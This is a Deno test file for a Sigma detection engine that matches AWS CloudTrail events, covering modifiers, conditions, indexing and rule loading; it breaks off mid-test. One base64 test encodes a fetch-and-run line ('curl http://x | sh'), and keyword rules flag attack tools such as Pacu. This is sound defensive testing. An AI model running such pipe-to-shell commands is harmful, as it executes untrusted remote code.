/**
 * Tests of the Sigma engine (`detectors/_sigma.ts`) and of the `rules` detector's loading,
 * options and alerts (`detectors/rules.ts`).
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import YAML from "yaml";
import { hasDeferred } from "../core/decode.ts";
import { ConfigError } from "../core/errors.ts";
import { captureLog } from "../core/log.ts";
import type { CloudTrailRecord, NormalizedEvent } from "../core/types.ts";
import { OptionsChecker } from "../core/validate.ts";
import { normalize } from "../mapping/normalize.ts";
import { compileRule, parseRuleFile, RuleIndex, type SigmaRule } from "../detectors/_sigma.ts";
import {
  CONSOLE_LOGIN_NO_MFA_RULE_ID,
  createRules,
  defaults,
  MAX_MATCHED_BYTES,
  ROOT_USAGE_RULE_ID,
  rulesDetector,
} from "../detectors/rules.ts";
import { deferred } from "./helpers/records.ts";

const LOGSOURCE = { product: "aws", service: "cloudtrail" };

/** Compiles a rule from a detection object; fails the test when it does not compile. */
function rule(detection: Record<string, unknown>, meta: Record<string, unknown> = {}): SigmaRule {
  const outcome = compileRule(
    { title: "Test rule", id: "test-rule", logsource: LOGSOURCE, detection, ...meta },
    "test.yml",
  );
  if (outcome.kind !== "rule") throw new Error(`rule not compiled: ${JSON.stringify(outcome)}`);
  return outcome.rule;
}

/** Compiles a rule from the YAML text of its detection block. */
function yamlRule(detection: string): SigmaRule {
  return rule(YAML.parse(detection));
}

/** The reason a detection is not supported; fails the test when it compiles. */
function unsupportedReason(detection: Record<string, unknown>): string {
  const outcome = compileRule(
    { title: "Test rule", id: "test-rule", logsource: LOGSOURCE, detection },
    "test.yml",
  );
  if (outcome.kind !== "unsupported") throw new Error(`expected unsupported, got ${outcome.kind}`);
  return outcome.problem.reason;
}

/** Runs `fn` with log lines captured (and kept off stderr). */
async function withLog<T>(fn: () => Promise<T>): Promise<{ result: T; lines: string[] }> {
  const lines: string[] = [];
  const restore = captureLog((line) => lines.push(line));
  try {
    return { result: await fn(), lines };
  } finally {
    restore();
  }
}

/** A temp folder with `files` (relative path → text); removed by the returned function. */
async function tempRules(
  files: Record<string, string>,
): Promise<{ dir: string; cleanup: () => Promise<void> }> {
  const dir = await Deno.makeTempDir({ prefix: "trailwatch-rules-" });
  for (const [name, text] of Object.entries(files)) {
    const path = join(dir, name);
    await Deno.mkdir(join(path, ".."), { recursive: true });
    await Deno.writeTextFile(path, text);
  }
  return { dir, cleanup: () => Deno.remove(dir, { recursive: true }) };
}

/** The rules detector over the rule files in `dir` alone (its load log kept quiet). */
async function rulesIn(dir: string) {
  const { result } = await withLog(() =>
    createRules({ builtin: false, paths: [dir] }, { name: "r", baseDir: "/" })
  );
  return result;
}

function ruleYaml(id: string, title: string, detection: string, extra = ""): string {
  return `title: ${title}
id: ${id}
status: test
logsource:
  product: aws
  service: cloudtrail
detection:
${detection.replace(/^/gm, "  ")}
level: high
${extra}`;
}

let seq = 0;
function event(record: CloudTrailRecord): NormalizedEvent {
  return normalize({
    eventVersion: "1.09",
    eventTime: "2026-11-20T08:00:00Z",
    eventID: `evt-${++seq}`,
    awsRegion: "eu-west-1",
    sourceIPAddress: "198.51.100.23",
    recipientAccountId: "111122223333",
    userIdentity: {
      type: "IAMUser",
      userName: "alice",
      arn: "arn:aws:iam::111122223333:user/alice",
    },
    ...record,
  });
}

// ------------------------------------------------------------------------------------------------
// Matching semantics

Deno.test("Sigma: a map of fields is AND, a list of values is OR", () => {
  const r = yamlRule(`
selection:
  eventSource: iam.amazonaws.com
  eventName:
    - CreateUser
    - DeleteUser
condition: selection`);
  assert.equal(r.matches({ eventSource: "iam.amazonaws.com", eventName: "CreateUser" }), true);
  assert.equal(r.matches({ eventSource: "iam.amazonaws.com", eventName: "DeleteUser" }), true);
  assert.equal(r.matches({ eventSource: "iam.amazonaws.com", eventName: "GetUser" }), false);
  assert.equal(r.matches({ eventSource: "s3.amazonaws.com", eventName: "CreateUser" }), false);
});

Deno.test("Sigma: a list of maps is OR between the maps", () => {
  const r = yamlRule(`
selection:
  - eventName: StopLogging
  - eventName: DeleteTrail
    eventSource: cloudtrail.amazonaws.com
condition: selection`);
  assert.equal(r.matches({ eventName: "StopLogging" }), true);
  assert.equal(
    r.matches({ eventName: "DeleteTrail", eventSource: "cloudtrail.amazonaws.com" }),
    true,
  );
  assert.equal(r.matches({ eventName: "DeleteTrail", eventSource: "other" }), false);
});

Deno.test("Sigma: string matching is case-insensitive by default (MFAUsed: 'NO' matches No)", () => {
  const r = yamlRule(`
selection:
  additionalEventData.MFAUsed: 'NO'
condition: selection`);
  assert.equal(r.matches({ additionalEventData: { MFAUsed: "No" } }), true);
  assert.equal(r.matches({ additionalEventData: { MFAUsed: "no" } }), true);
  assert.equal(r.matches({ additionalEventData: { MFAUsed: "Yes" } }), false);
});

Deno.test("Sigma: the cased modifier makes matching case-sensitive", () => {
  const r = rule({ selection: { "eventName|cased": "ConsoleLogin" }, condition: "selection" });
  assert.equal(r.matches({ eventName: "ConsoleLogin" }), true);
  assert.equal(r.matches({ eventName: "consolelogin" }), false);
});

Deno.test("Sigma: wildcards * and ? match any run and one character", () => {
  const r = rule({
    selection: { userAgent: ["aws-cli/2.*", "Boto3/1.?.0"] },
    condition: "selection",
  });
  assert.equal(r.matches({ userAgent: "aws-cli/2.17.0 Python/3.12" }), true);
  assert.equal(r.matches({ userAgent: "AWS-CLI/2.1" }), true);
  assert.equal(r.matches({ userAgent: "boto3/1.9.0" }), true);
  assert.equal(r.matches({ userAgent: "boto3/1.10.0" }), false);
  assert.equal(r.matches({ userAgent: "aws-cli/1.0" }), false);
  // Without a wildcard the whole value must match.
  const exact = rule({ selection: { userAgent: "aws-cli" }, condition: "selection" });
  assert.equal(exact.matches({ userAgent: "aws-cli/2.0" }), false);
});

Deno.test("Sigma: escaped wildcards and backslashes are literal", () => {
  const star = rule({
    selection: { "requestParameters.principal": "\\*" },
    condition: "selection",
  });
  assert.equal(star.matches({ requestParameters: { principal: "*" } }), true);
  assert.equal(star.matches({ requestParameters: { principal: "s3.amazonaws.com" } }), false);
  const question = rule({ selection: { title: "why\\?" }, condition: "selection" });
  assert.equal(question.matches({ title: "why?" }), true);
  assert.equal(question.matches({ title: "whyX" }), false);
  const backslash = rule({ selection: { path: "C:\\\\temp\\\\*" }, condition: "selection" });
  assert.equal(backslash.matches({ path: "C:\\temp\\x.txt" }), true);
  const plain = rule({ selection: { path: "C:\\Windows" }, condition: "selection" });
  assert.equal(plain.matches({ path: "C:\\Windows" }), true, "a lone backslash stays literal");
});

Deno.test("Sigma: contains, startswith and endswith", () => {
  const contains = rule({ selection: { "userAgent|contains": "Kali" }, condition: "selection" });
  assert.equal(contains.matches({ userAgent: "aws-cli/2 distrib/kali.2024" }), true);
  assert.equal(contains.matches({ userAgent: "aws-cli/2 distrib/ubuntu" }), false);
  const starts = rule({ selection: { "eventName|startswith": "Delete" }, condition: "selection" });
  assert.equal(starts.matches({ eventName: "DeleteTrail" }), true);
  assert.equal(starts.matches({ eventName: "UndeleteTrail" }), false);
  const ends = rule({
    selection: { "requestParameters.policyArn|endswith": "/AdministratorAccess" },
    condition: "selection",
  });
  assert.equal(
    ends.matches({
      requestParameters: { policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" },
    }),
    true,
  );
  assert.equal(
    ends.matches({
      requestParameters: { policyArn: "arn:aws:iam::aws:policy/AdministratorAccess-Amplify" },
    }),
    false,
  );
  const wildContains = rule({
    selection: { "userAgent|contains": "python/3.1?" },
    condition: "selection",
  });
  assert.equal(wildContains.matches({ userAgent: "Boto3 Python/3.12 Linux" }), true);
});

Deno.test("Sigma: the all modifier requires every value", () => {
  const r = rule({
    selection: {
      // `*` is a wildcard in Sigma values; a literal star is written `\*` (here "\\*").
      "requestParameters.policyDocument|contains|all": ['"Effect":"Allow"', '"Action":"\\*"'],
    },
    condition: "selection",
  });
  assert.equal(
    r.matches({ requestParameters: { policyDocument: '{"Effect":"Allow","Action":"*"}' } }),
    true,
  );
  assert.equal(
    r.matches({ requestParameters: { policyDocument: '{"Effect":"Allow","Action":"s3:*"}' } }),
    false,
  );
  const any = rule({
    selection: {
      "requestParameters.policyDocument|contains": ['"Effect":"Allow"', '"Action":"\\*"'],
    },
    condition: "selection",
  });
  assert.equal(
    any.matches({ requestParameters: { policyDocument: '{"Effect":"Allow","Action":"s3:*"}' } }),
    true,
  );
});

Deno.test("Sigma: re matches a regular expression, case-sensitive unless re|i or (?i)", () => {
  const r = rule({
    selection: { "userIdentity.arn|re": ":assumed-role/aws:[a-z0-9-]+/i-[0-9a-f]+$" },
    condition: "selection",
  });
  assert.equal(
    r.matches({ userIdentity: { arn: "arn:aws:sts::1:assumed-role/aws:ec2-instance/i-0abc" } }),
    true,
  );
  assert.equal(
    r.matches({ userIdentity: { arn: "arn:aws:sts::1:assumed-role/AWS:EC2-instance/i-0abc" } }),
    false,
  );
  const i = rule({
    selection: { "userIdentity.arn|re|i": ":assumed-role/aws:[a-z0-9-]+/" },
    condition: "selection",
  });
  assert.equal(
    i.matches({ userIdentity: { arn: "arn:aws:sts::1:assumed-role/AWS:EC2-instance/x" } }),
    true,
  );
  const inline = rule({ selection: { "userAgent|re": "(?i)^KALI" }, condition: "selection" });
  assert.equal(inline.matches({ userAgent: "kali linux" }), true);
});

Deno.test("Sigma: cidr matches IPv4 and IPv6 ranges", () => {
  const r = rule({
    selection: { "sourceIPAddress|cidr": ["203.0.113.0/24", "2001:db8::/32"] },
    condition: "selection",
  });
  assert.equal(r.matches({ sourceIPAddress: "203.0.113.77" }), true);
  assert.equal(r.matches({ sourceIPAddress: "2001:db8::5" }), true);
  assert.equal(r.matches({ sourceIPAddress: "198.51.100.1" }), false);
  assert.equal(r.matches({ sourceIPAddress: "AWS Internal" }), false);
  assert.match(
    unsupportedReason({
      selection: { "sourceIPAddress|cidr": "10.0.0.0/33" },
      condition: "selection",
    }),
    /prefix/,
  );
});

Deno.test("Sigma: exists tests whether a field is present", () => {
  const present = rule({ selection: { "errorCode|exists": true }, condition: "selection" });
  const absent = rule({ selection: { "errorCode|exists": false }, condition: "selection" });
  assert.equal(present.matches({ errorCode: "AccessDenied" }), true);
  assert.equal(present.matches({ eventName: "x" }), false);
  assert.equal(absent.matches({ eventName: "x" }), true);
  assert.equal(absent.matches({ errorCode: "AccessDenied" }), false);
  assert.equal(absent.matches({ errorCode: null }), true, "a null field does not exist");
});

Deno.test("Sigma: null matches a field that is absent or null", () => {
  const r = yamlRule(`
selection:
  eventName: CreateAccessKey
  requestParameters.userName: null
condition: selection`);
  assert.equal(r.matches({ eventName: "CreateAccessKey" }), true);
  assert.equal(r.matches({ eventName: "CreateAccessKey", requestParameters: null }), true);
  assert.equal(
    r.matches({ eventName: "CreateAccessKey", requestParameters: { userName: null } }),
    true,
  );
  assert.equal(
    r.matches({ eventName: "CreateAccessKey", requestParameters: { userName: "bob" } }),
    false,
  );
  const orValue = rule({
    selection: { errorCode: [null, "AccessDenied"] },
    condition: "selection",
  });
  assert.equal(orValue.matches({}), true);
  assert.equal(orValue.matches({ errorCode: "AccessDenied" }), true);
  assert.equal(orValue.matches({ errorCode: "Throttling" }), false);
});

Deno.test("Sigma: fieldref compares a field with another field of the same record", () => {
  const r = rule({
    selection: { eventName: "CreateAccessKey" },
    filter: { "requestParameters.userName|fieldref": "userIdentity.userName" },
    condition: "selection and not filter",
  });
  const by = (caller: string | undefined, target: string) => ({
    eventName: "CreateAccessKey",
    userIdentity: caller ? { userName: caller } : { type: "AssumedRole" },
    requestParameters: { userName: target },
  });
  assert.equal(r.matches(by("alice", "bob")), true);
  assert.equal(r.matches(by("alice", "alice")), false);
  assert.equal(r.matches(by("alice", "ALICE")), false, "compared case-insensitively");
  assert.equal(r.matches(by(undefined, "alice")), true, "a missing reference field never equals");
  const prefix = rule({
    selection: { "userIdentity.arn|fieldref|endswith": "requestParameters.userName" },
    condition: "selection",
  });
  assert.equal(
    prefix.matches({
      userIdentity: { arn: "arn:aws:iam::1:user/bob" },
      requestParameters: { userName: "bob" },
    }),
    true,
  );
  assert.equal(
    prefix.matches({
      userIdentity: { arn: "arn:aws:iam::1:user/bob" },
      requestParameters: { userName: "eve" },
    }),
    false,
  );
});

Deno.test("Sigma: base64 and base64offset match encoded forms", () => {
  const b64 = rule({
    selection: { "requestParameters.userData|base64|contains": "curl http" },
    condition: "selection",
  });
  assert.equal(b64.matches({ requestParameters: { userData: `x${btoa("curl http")}y` } }), true);
  assert.equal(b64.matches({ requestParameters: { userData: btoa("wget http") } }), false);
  const offset = rule({
    selection: { "requestParameters.userData|base64offset|contains": "curl http" },
    condition: "selection",
  });
  for (const prefix of ["", "a", "ab", "abc"]) {
    const encoded = btoa(`#!/bin/sh\n${prefix}curl http://x | sh`);
    assert.equal(
      offset.matches({ requestParameters: { userData: encoded } }),
      true,
      `offset ${prefix.length}`,
    );
  }
  assert.equal(
    offset.matches({ requestParameters: { userData: btoa("#!/bin/sh\nwget http://x") } }),
    false,
  );
  assert.match(
    unsupportedReason({ selection: { "x|base64offset": "a" }, condition: "selection" }),
    /contains/,
  );
});

Deno.test("Sigma: lt, lte, gt and gte compare numbers", () => {
  const r = rule({
    selection: { "requestParameters.minimumPasswordLength|lt": 14 },
    condition: "selection",
  });
  assert.equal(r.matches({ requestParameters: { minimumPasswordLength: 8 } }), true);
  assert.equal(r.matches({ requestParameters: { minimumPasswordLength: "8" } }), true);
  assert.equal(r.matches({ requestParameters: { minimumPasswordLength: 14 } }), false);
  assert.equal(r.matches({ requestParameters: {} }), false);
  const gte = rule({
    selection: { "requestParameters.pendingWindowInDays|gte": 7 },
    condition: "selection",
  });
  assert.equal(gte.matches({ requestParameters: { pendingWindowInDays: 7 } }), true);
  assert.equal(gte.matches({ requestParameters: { pendingWindowInDays: 6 } }), false);
});

Deno.test("Sigma: numbers and booleans match their text", () => {
  const r = yamlRule(`
selection:
  requestParameters.enable: false
  requestParameters.port: 22
condition: selection`);
  assert.equal(r.matches({ requestParameters: { enable: false, port: 22 } }), true);
  assert.equal(r.matches({ requestParameters: { enable: "false", port: "22" } }), true);
  assert.equal(r.matches({ requestParameters: { enable: true, port: 22 } }), false);
});

Deno.test("Sigma: dotted paths go through nested objects and arrays, any element matching", () => {
  const r = rule({
    selection: { "requestParameters.ipPermissions.items.ipRanges.items.cidrIp": "0.0.0.0/0" },
    condition: "selection",
  });
  const record = (cidrs: string[][]) => ({
    requestParameters: {
      ipPermissions: {
        items: cidrs.map((list) => ({ ipRanges: { items: list.map((cidrIp) => ({ cidrIp })) } })),
      },
    },
  });
  assert.equal(r.matches(record([["10.0.0.0/8"], ["192.168.0.0/16", "0.0.0.0/0"]])), true);
  assert.equal(r.matches(record([["10.0.0.0/8"], ["192.168.0.0/16"]])), false);
  assert.equal(r.matches(record([])), false);
  // A field that is a list of scalars matches when one of them does.
  const list = rule({
    selection: { "requestParameters.x-amz-acl": "public-read" },
    condition: "selection",
  });
  assert.equal(
    list.matches({ requestParameters: { "x-amz-acl": ["private", "public-read"] } }),
    true,
  );
  assert.equal(list.matches({ requestParameters: { "x-amz-acl": ["private"] } }), false);
  // Arrays of arrays are flattened too.
  assert.equal(list.matches({ requestParameters: { "x-amz-acl": [["public-read"]] } }), true);
});

Deno.test("Sigma: unknown paths do not match and prototype segments never resolve", () => {
  const unknown = rule({
    selection: { "requestParameters.nope.deeper": "x" },
    condition: "selection",
  });
  assert.equal(unknown.matches({ requestParameters: { other: "x" } }), false);
  assert.equal(unknown.matches({ requestParameters: "x" }), false);
  const proto = rule({
    selection: { "requestParameters.constructor.name": "Object" },
    condition: "selection",
  });
  assert.equal(proto.matches({ requestParameters: {} }), false);
  const protoExists = rule({
    selection: { "requestParameters.__proto__|exists": true },
    condition: "selection",
  });
  assert.equal(protoExists.matches({ requestParameters: {} }), false);
  const own = JSON.parse('{"requestParameters": {"__proto__": {"polluted": "yes"}}}');
  const polluted = rule({
    selection: { "requestParameters.__proto__.polluted": "yes" },
    condition: "selection",
  });
  assert.equal(polluted.matches(own), false, "even an own __proto__ key is not followed");
  const viaProto = rule({ selection: { "toString|exists": true }, condition: "selection" });
  assert.equal(viaProto.matches({}), false, "inherited properties are not fields");
});

Deno.test("Sigma: string tests on an object field see its JSON text", () => {
  const r = rule({
    selection: { "requestParameters|contains": '"s3:GetObject"' },
    condition: "selection",
  });
  assert.equal(r.matches({ requestParameters: { actions: ["s3:GetObject"] } }), true);
  assert.equal(r.matches({ requestParameters: { actions: ["s3:PutObject"] } }), false);
});

Deno.test("Sigma: keyword lists search every value of the record", () => {
  const r = yamlRule(`
keywords:
  - pacu
  - 'cloudgoat*'
condition: keywords`);
  assert.equal(r.matches({ userAgent: "Pacu/1.0 (Linux)" }), true);
  assert.equal(r.matches({ requestParameters: { tags: [{ value: "CloudGoat-scenario" }] } }), true);
  assert.equal(r.matches({ userAgent: "aws-cli/2" }), false);
});

// ------------------------------------------------------------------------------------------------
// Conditions

Deno.test("Sigma: conditions combine with and, or, not and parentheses (not > and > or)", () => {
  const detection = {
    a: { x: "1" },
    b: { y: "1" },
    c: { z: "1" },
  };
  const cases: [string, (x: boolean, y: boolean, z: boolean) => boolean][] = [
    ["a and b or c", (x, y, z) => (x && y) || z],
    ["a and (b or c)", (x, y, z) => x && (y || z)],
    ["not a and b", (x, y) => !x && y],
    ["not (a and b)", (x, y) => !(x && y)],
    ["a or b and not c", (x, y, z) => x || (y && !z)],
    ["(a or (b and not (c or a))) and not not b", (x, y, z) => (x || (y && !(z || x))) && y],
    ["a AND NOT b", (x, y) => x && !y],
  ];
  for (const [condition, expected] of cases) {
    const r = rule({ ...detection, condition });
    for (const x of [false, true]) {
      for (const y of [false, true]) {
        for (const z of [false, true]) {
          const record = { x: x ? "1" : "0", y: y ? "1" : "0", z: z ? "1" : "0" };
          assert.equal(
            r.matches(record),
            expected(x, y, z),
            `${condition} with ${JSON.stringify(record)}`,
          );
        }
      }
    }
  }
});

Deno.test("Sigma: 1 of and all of select selections by name pattern", () => {
  const detection = {
    selection_a: { x: "1" },
    selection_b: { y: "1" },
    filter: { z: "1" },
  };
  const one = rule({ ...detection, condition: "1 of selection_* and not filter" });
  const all = rule({ ...detection, condition: "all of selection_*" });
  assert.equal(one.matches({ x: "1" }), true);
  assert.equal(one.matches({ y: "1" }), true);
  assert.equal(one.matches({ y: "1", z: "1" }), false);
  assert.equal(one.matches({ z: "1" }), false);
  assert.equal(all.matches({ x: "1" }), false);
  assert.equal(all.matches({ x: "1", y: "1" }), true);
  const two = rule({ ...detection, condition: "2 of them" });
  assert.equal(two.matches({ x: "1", z: "1" }), true);
  assert.equal(two.matches({ x: "1" }), false);
});

Deno.test("Sigma: 1 of them and all of them leave out names starting with _", () => {
  const detection = { a: { x: "1" }, b: { y: "1" }, _helper: { z: "1" } };
  const one = rule({ ...detection, condition: "1 of them" });
  const all = rule({ ...detection, condition: "all of them" });
  assert.equal(one.matches({ z: "1" }), false);
  assert.equal(one.matches({ y: "1" }), true);
  assert.equal(all.matches({ x: "1", y: "1" }), true);
  assert.equal(all.matches({ x: "1", z: "1" }), false);
});

Deno.test("Sigma: a list of conditions matches when any does", () => {
  const r = rule({ a: { x: "1" }, b: { y: "1" }, condition: ["a and b", "not a"] });
  assert.equal(r.matches({ x: "1", y: "1" }), true);
  assert.equal(r.matches({ x: "0" }), true);
  assert.equal(r.matches({ x: "1", y: "0" }), false);
});

// ------------------------------------------------------------------------------------------------
// Unsupported rules

Deno.test("Sigma: unsupported rules are reported with the reason", () => {
  const sel = { selection: { eventName: "GetSecretValue" } };
  const reasons: [Record<string, unknown>, RegExp][] = [
    [{ ...sel, condition: "selection | count() by userIdentity.arn > 20" }, /aggregation/],
    [{ ...sel, condition: "selection", timeframe: "5m" }, /timeframe/],
    [{ ...sel, condition: "selection near other" }, /near|unexpected/],
    [{ selection: { "CommandLine|windash|contains": "-enc" }, condition: "selection" }, /windash/],
    [{ selection: { "x|wide|base64offset|contains": "a" }, condition: "selection" }, /wide/],
    [{ selection: { "x|expand": "%admins%" }, condition: "selection" }, /expand/],
    [
      { selection: { "x|frobnicate": "a" }, condition: "selection" },
      /unknown modifier "frobnicate"/,
    ],
    [{ ...sel, condition: "selection and missing" }, /unknown selection "missing"/],
    [{ ...sel, condition: "1 of nothing_*" }, /no selection matches "nothing_\*"/],
    [{ ...sel, condition: "selection and (selection" }, /missing \)/],
    [{ ...sel }, /no condition/],
    [{ selection: { "x|re": "([" }, condition: "selection" }, /invalid regular expression/],
    [{ selection: { "x|exists": "yes" }, condition: "selection" }, /exists expects true or false/],
    [{ selection: { "x|contains|startswith": "a" }, condition: "selection" }, /cannot be combined/],
    [{ selection: { x: { nested: "map" } }, condition: "selection" }, /nested/],
  ];
  for (const [detection, pattern] of reasons) {
    assert.match(unsupportedReason(detection), pattern, JSON.stringify(detection));
  }
});

Deno.test("Sigma: correlation rules, collections and rules of other logsources are told apart", () => {
  const correlation = compileRule({
    title: "Many",
    id: "c-1",
    correlation: {
      type: "event_count",
      rules: ["x"],
      group_by: ["userIdentity.arn"],
      timespan: "5m",
    },
  }, "c.yml");
  assert.equal(correlation.kind, "unsupported");
  assert.match(correlation.kind === "unsupported" ? correlation.problem.reason : "", /correlation/);
  const collection = compileRule({ action: "global", title: "x", logsource: LOGSOURCE }, "g.yml");
  assert.equal(collection.kind, "unsupported");
  const windows = compileRule({
    title: "Windows",
    id: "w-1",
    logsource: { product: "windows", category: "process_creation" },
    detection: { selection: { Image: "*\\cmd.exe" }, condition: "selection | count() > 5" },
  }, "w.yml");
  assert.equal(
    windows.kind,
    "skipped",
    "other logsources are skipped before their detection is read",
  );
  const upper = compileRule({
    title: "Upper",
    id: "u-1",
    logsource: { product: "AWS", service: "CloudTrail" },
    detection: { selection: { eventName: "x" }, condition: "selection" },
  }, "u.yml");
  assert.equal(upper.kind, "rule");
});

Deno.test("Sigma: metadata is kept and a missing level is medium", () => {
  const r = rule({ selection: { eventName: "x" }, condition: "selection" }, {
    description: "  What it catches.  ",
    tags: ["attack.t1098", "attack.persistence"],
    falsepositives: ["Admins"],
    status: "test",
  });
  assert.equal(r.level, "medium");
  assert.equal(r.description, "What it catches.");
  assert.deepEqual(r.tags, ["attack.t1098", "attack.persistence"]);
  assert.deepEqual(r.falsepositives, ["Admins"]);
  const bad = compileRule({
    title: "t",
    id: "i",
    level: "severe",
    logsource: LOGSOURCE,
    detection: { s: { a: 1 }, condition: "s" },
  }, "x.yml");
  assert.equal(bad.kind, "unsupported");
});

// ------------------------------------------------------------------------------------------------
// Index

Deno.test("RuleIndex: an event only evaluates rules for its eventName or eventSource", () => {
  const byName = rule({
    selection: { eventName: ["StopLogging", "DeleteTrail"] },
    condition: "selection",
  }, { id: "n" });
  const bySource = rule({
    selection: { eventSource: "lambda.amazonaws.com", "eventName|startswith": "AddPermission" },
    condition: "selection",
  }, { id: "s" });
  const anywhere = rule({ selection: { "userIdentity.type": "Root" }, condition: "selection" }, {
    id: "a",
  });
  const negated = rule({ selection: { eventName: "ConsoleLogin" }, condition: "not selection" }, {
    id: "neg",
  });
  assert.deepEqual([...byName.eventNames!].sort(), ["deletetrail", "stoplogging"]);
  assert.equal(bySource.eventNames, null);
  assert.deepEqual([...bySource.eventSources!], ["lambda.amazonaws.com"]);
  assert.equal(anywhere.eventNames, null);
  assert.equal(negated.eventNames, null, "a negated requirement does not index the rule");
  const index = new RuleIndex([byName, bySource, anywhere, negated]);
  assert.equal(index.unindexed, 2);
  const ids = (record: CloudTrailRecord) => index.candidates(record).map((r) => r.id);
  assert.deepEqual(ids({ eventName: "StopLogging", eventSource: "cloudtrail.amazonaws.com" }), [
    "n",
    "a",
    "neg",
  ]);
  assert.deepEqual(ids({ eventName: "stoplogging", eventSource: "cloudtrail.amazonaws.com" }), [
    "n",
    "a",
    "neg",
  ]);
  assert.deepEqual(
    ids({ eventName: "AddPermission20150331v2", eventSource: "lambda.amazonaws.com" }),
    ["s", "a", "neg"],
  );
  assert.deepEqual(ids({ eventName: "ListBuckets", eventSource: "s3.amazonaws.com" }), [
    "a",
    "neg",
  ]);
});

Deno.test("RuleIndex: indexing never loses a match (same result as evaluating every rule)", () => {
  const rules = [
    rule({ s: { eventName: "A" }, condition: "s" }, { id: "1" }),
    rule({ s: { eventName: "A" }, t: { eventName: "B" }, condition: "s or t" }, { id: "2" }),
    rule({ s: { eventName: "A" }, t: { x: "1" }, condition: "s or t" }, { id: "3" }),
    rule({ s: { eventName: "A" }, t: { eventName: "B" }, condition: "s and t" }, { id: "4" }),
    rule({ s: [{ eventName: "A" }, { eventSource: "src" }], condition: "s" }, { id: "5" }),
    rule({ s: { eventSource: "src" }, t: { eventName: "C" }, condition: "s and t" }, { id: "6" }),
    rule({ s: { "eventName|contains": "A" }, condition: "s" }, { id: "7" }),
    rule({ s: { eventName: "A*" }, condition: "s" }, { id: "8" }),
    rule({ s: { eventName: "A" }, t: { x: "1" }, condition: "1 of them" }, { id: "9" }),
    rule({ s: { eventName: "A" }, t: { eventName: "B" }, condition: "all of them" }, { id: "10" }),
    rule({ s: { eventName: ["A", null] }, condition: "s" }, { id: "11" }),
  ];
  const index = new RuleIndex(rules);
  const records: CloudTrailRecord[] = [];
  for (const eventName of ["A", "a", "B", "C", "AB", undefined]) {
    for (const eventSource of ["src", "other", undefined]) {
      for (const x of ["1", "0"]) records.push({ eventName, eventSource, x });
    }
  }
  records.push({ eventName: ["A"] }, { eventName: 5 });
  for (const record of records) {
    const expected = rules.filter((r) => r.matches(record)).map((r) => r.id);
    assert.deepEqual(index.evaluate(record).map((r) => r.id), expected, JSON.stringify(record));
  }
});

Deno.test("Sigma: regexes are compiled when the rule loads, not per event", () => {
  const r = rule({
    selection: {
      "userAgent|re": "^aws-cli/\\d",
      "requestParameters.name": "trail-*",
    },
    condition: "selection",
  });
  const Original = globalThis.RegExp;
  let constructed = 0;
  globalThis.RegExp = new Proxy(Original, {
    construct(target, args) {
      constructed++;
      return Reflect.construct(target, args);
    },
    apply(target, self, args) {
      constructed++;
      return Reflect.apply(target, self, args);
    },
  });
  try {
    for (let i = 0; i < 100; i++) {
      r.matches({ userAgent: `aws-cli/${i}`, requestParameters: { name: `trail-${i}` } });
    }
  } finally {
    globalThis.RegExp = Original;
  }
  assert.equal(constructed, 0);
});

// ------------------------------------------------------------------------------------------------
// Files and loading

Deno.test("parseRuleFile() reads several rules from one file and reports a YAML syntax error", () => {
  const text = `${ruleYaml("m-1", "One", "s: {eventName: A}\ncondition: s")}---\n${
    ruleYaml("m-2", "Two", "s: {eventName: B}\ncondition: s")
  }`;
  const result = parseRuleFile(text, "multi.yml");
  assert.deepEqual(result.rules.map((r) => r.id), ["m-1", "m-2"]);
  const broken = parseRuleFile("title: x\ndetection: [unclosed\n", "broken.yml");
  assert.equal(broken.rules.length, 0);
  assert.match(broken.error ?? "", /cannot parse YAML/);
});

Deno.test("rules: loading a folder of mixed products, unsupported rules and a broken file", async () => {
  const { dir, cleanup } = await tempRules({
    "aws/stop.yml": ruleYaml(
      "11111111-0000-4000-8000-000000000001",
      "Trail stopped",
      "s:\n  eventName: StopLogging\ncondition: s",
    ),
    "aws/deep/keys.yaml": ruleYaml(
      "11111111-0000-4000-8000-000000000002",
      "Keys for others",
      "s:\n  eventName: CreateAccessKey\nf:\n  requestParameters.userName|fieldref: userIdentity.userName\ncondition: s and not f",
    ),
    "aws/count.yml": ruleYaml(
      "11111111-0000-4000-8000-000000000003",
      "Secret dump",
      "s:\n  eventName: GetSecretValue\ncondition: s | count() by userIdentity.arn > 20",
    ),
    "aws/windash.yml": ruleYaml(
      "11111111-0000-4000-8000-000000000004",
      "Windash",
      "s:\n  userAgent|windash|contains: -x\ncondition: s",
    ),
    "aws/broken.yml": "title: broken\ndetection:\n  s: [unclosed\n",
    "aws/zz_dup.yml": ruleYaml(
      "11111111-0000-4000-8000-000000000001",
      "Copy of trail stopped",
      "s:\n  eventName: StopLogging\ncondition: s",
    ),
    "windows/proc.yml": `title: Cmd
id: 22222222-0000-4000-8000-000000000001
logsource:
  product: windows
  category: process_creation
detection:
  s:
    Image|endswith: '\\cmd.exe'
  condition: s
`,
    "gcp/audit.yml": `title: GCP
id: 22222222-0000-4000-8000-000000000002
logsource:
  product: gcp
  service: gcp.audit
detection:
  s:
    methodName: x
  condition: s
`,
    "correlation.yml": `title: Many logins
id: 33333333-0000-4000-8000-000000000001
correlation:
  type: event_count
  rules: [11111111-0000-4000-8000-000000000001]
  timespan: 1h
  condition:
    gte: 10
`,
    "README.md": "not a rule",
    ".git/config.yml": "title: [not, scanned",
  });
  try {
    const { result: detector, lines } = await withLog(() =>
      createRules({ builtin: false, paths: [dir] }, { name: "mine", baseDir: "/" })
    );
    const report = detector.report;
    assert.equal(report.loaded, 2);
    assert.deepEqual(detector.rules.map((r) => r.title).sort(), [
      "Keys for others",
      "Trail stopped",
    ]);
    assert.equal(report.skipped, 2);
    assert.equal(report.files, 9);
    assert.deepEqual(report.errors.map((e) => e.file.slice(dir.length + 1)), ["aws/broken.yml"]);
    const reasons = Object.fromEntries(
      report.unsupported.map((p) => [p.file.slice(dir.length + 1), p.reason]),
    );
    assert.match(reasons["aws/count.yml"], /aggregation/);
    assert.match(reasons["aws/windash.yml"], /windash/);
    assert.match(reasons["aws/zz_dup.yml"], /duplicate id/);
    assert.match(reasons["correlation.yml"], /correlation/);
    assert.equal(report.unsupported.length, 4);
    const warnings = lines.filter((line) => line.includes("WARN"));
    assert.ok(
      warnings.some((line) => line.includes("aws/count.yml") && line.includes("aggregation")),
    );
    assert.ok(
      warnings.some((line) =>
        line.includes("aws/broken.yml") && line.includes("cannot parse YAML")
      ),
    );
    const summary = lines.find((line) =>
      line.includes("INFO") && line.includes("loaded 2 Sigma rules")
    );
